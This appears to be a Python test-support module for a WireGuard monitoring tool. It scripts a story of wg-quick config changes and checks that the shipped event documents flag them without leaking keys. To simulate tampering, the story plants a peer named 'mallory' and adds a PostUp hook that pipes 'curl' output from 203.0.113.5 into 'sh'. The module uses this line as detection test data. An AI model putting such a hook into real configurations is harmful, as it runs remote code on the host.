"""A wg-quick file's life next to its running interface, for tests: files written as text,
read the way `ship` reads them (`ConfigRead`), one poll at a time. `config_story` plays one
that makes every configuration action, with the optional fields filled in."""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field

from tests.support.dumps import FakeInterface, dump, fake_key
from wgsiem.ecs.document import Context
from wgsiem.enrich.windows import parse_windows
from wgsiem.shipper import Shipper
from wgsiem.status.state import State
from wgsiem.wgdump import PresharedKeyHasher
from wgsiem.wgdump.raw import ConfigRead, FileMeta, RawConfigFile, RawPoll

T0 = 1_790_000_000  # 2026-09-21 (a Monday) 14:13:20 UTC


@dataclass
class ConfFile:
    """A wg-quick file: its [Interface] and [Peer] sections as text, and its mode and owner."""

    path: str
    interface: FakeInterface
    extra: list[str] = field(default_factory=list)  # more [Interface] lines (hooks, SaveConfig)
    peers: dict[str, list[str]] = field(default_factory=dict)  # label -> the section's lines
    mode: int = 0o600
    uid: int = 0
    gid: int = 0
    address: str = "10.0.0.1/24"

    def peer(self, label: str, *lines: str, psk: str | None = None) -> None:
        self.peers[label] = [f"# friendly_name = {label}", f"PublicKey = {fake_key(label)}", *lines]
        if psk:
            self.peers[label].append(f"PresharedKey = {psk}")

    def text(self) -> str:
        i = self.interface
        out = ["[Interface]", f"PrivateKey = {i.private_key}", f"ListenPort = {i.listen_port}", f"Address = {self.address}", *self.extra]
        for lines in self.peers.values():
            out += ["", "[Peer]", *lines]
        return "\n".join(out) + "\n"

    def raw(self) -> RawConfigFile:
        data = self.text().encode()
        owner, group = ("root" if self.uid == 0 else None), ("root" if self.gid == 0 else "staff")
        meta = FileMeta(hashlib.sha256(data).hexdigest(), len(data), self.mode, self.uid, self.gid, owner, group)
        return RawConfigFile(self.path, meta, data.decode())


def poll(time: int, interfaces: list[FakeInterface], files: list[ConfFile]) -> RawPoll:
    return RawPoll(time, dump(*interfaces) if interfaces else "", config=ConfigRead(tuple(f.raw() for f in files)))


WINDOWS = parse_windows([{"days": ["mon"], "start": "14:00", "end": "15:00", "timezone": "UTC"}], "story")


def config_story() -> tuple[list[dict], list[str]]:
    """Every configuration action: baseline, a file added, changed (content, mode), exposed,
    peers added / changed / removed, interface settings and hooks changed, drift that
    starts, persists and ends, a file removed. Returns the documents and the secrets the
    files held (private and preshared keys), which no document may contain."""
    hasher = PresharedKeyHasher(b"k" * 32)
    shipper = Shipper(State(), hasher, Context(host_name="vpn1", names={fake_key("alice"): "alice"}, change_windows=WINDOWS), drift_after=300)
    wg0, wg1 = FakeInterface(), FakeInterface(name="wg1", private_key=fake_key("private wg1"), listen_port=51821)
    psk = fake_key("psk alice")
    alice = wg0.peer("alice", allowed_ips="10.0.0.2/32", keepalive="25", psk=psk)
    conf0 = ConfFile("/etc/wireguard/wg0.conf", wg0)
    conf0.peer("alice", "AllowedIPs = 10.0.0.2/32", "Endpoint = 198.51.100.10:51820", "PersistentKeepalive = 25", psk=psk)
    conf0.extra = ["PostUp = iptables -A FORWARD -i %i -j ACCEPT"]
    docs: list[dict] = []
    secrets = [wg0.private_key, wg1.private_key, psk]

    def step(t: int, interfaces: list[FakeInterface], files: list[ConfFile]) -> None:
        docs.extend(shipper.process(poll(t, interfaces, files)).documents)

    step(T0, [wg0], [conf0])  # baseline: file and interface agree
    # Someone plants mallory in the file (and makes it world-readable), adds a hook.
    conf0.peer("mallory", "AllowedIPs = 10.0.0.0/16", "Endpoint = 67.43.156.7:36000")
    conf0.mode = 0o644
    conf0.extra.append("PostUp = curl -s http://203.0.113.5/x | sh")
    step(T0 + 60, [wg0], [conf0])  # file changed, exposed, peer added, hook changed; drift pending
    step(T0 + 400, [wg0], [conf0])  # drift persists
    # Restart: wg-quick brings mallory up; the admin fixes the mode.
    wg0.peer("mallory", allowed_ips="10.0.0.0/16")
    conf0.mode = 0o600
    step(T0 + 460, [wg0], [conf0])  # peer-added; drift ended
    # wg set at run time: a keepalive and an unsaved peer; the file changes alice's endpoint and PSK.
    alice.keepalive = "15"
    wg0.peer("bob", allowed_ips="10.0.0.3/32")
    conf0.peers["alice"] = [line for line in conf0.peers["alice"] if not line.startswith(("Endpoint", "PresharedKey"))]
    conf0.peers["alice"].insert(3, "Endpoint = 203.0.113.9:51820")
    step(T0 + 520, [wg0], [conf0])  # config-peer-changed; drift: keepalive, preshared_key, unsaved
    # The interface gets a new key and port in the file; a second file appears, then goes.
    conf0.interface = FakeInterface(private_key=fake_key("private wg0 next"), listen_port=51830)
    secrets.append(conf0.interface.private_key)
    conf1 = ConfFile("/etc/wireguard/wg1.conf", wg1, extra=["SaveConfig = true"])
    conf1.peer("carol", "AllowedIPs = 10.1.0.2/32")
    del conf0.peers["mallory"]
    conf0.extra = [*conf0.extra[:1], "DNS = 10.0.0.53", "MTU = 1380", "Table = off"]
    conf0.address = "10.0.0.1/24, fd00::1/64"
    step(T0 + 580, [wg0], [conf0, conf1])
    # wg1.conf removed; wg0.conf handed to a user, with a line wg would refuse.
    conf0.uid, conf0.gid = 1000, 50
    conf0.extra = [*conf0.extra[:1], "DNS = 10.0.0.54", "MTU = 1420", "Table = auto"]
    conf0.address = "10.0.0.1/24"
    conf0.peers["alice"].append("AllowedIPs = 10.0.0.300/32")
    step(T0 + 640, [wg0], [conf0])
    return docs, secrets
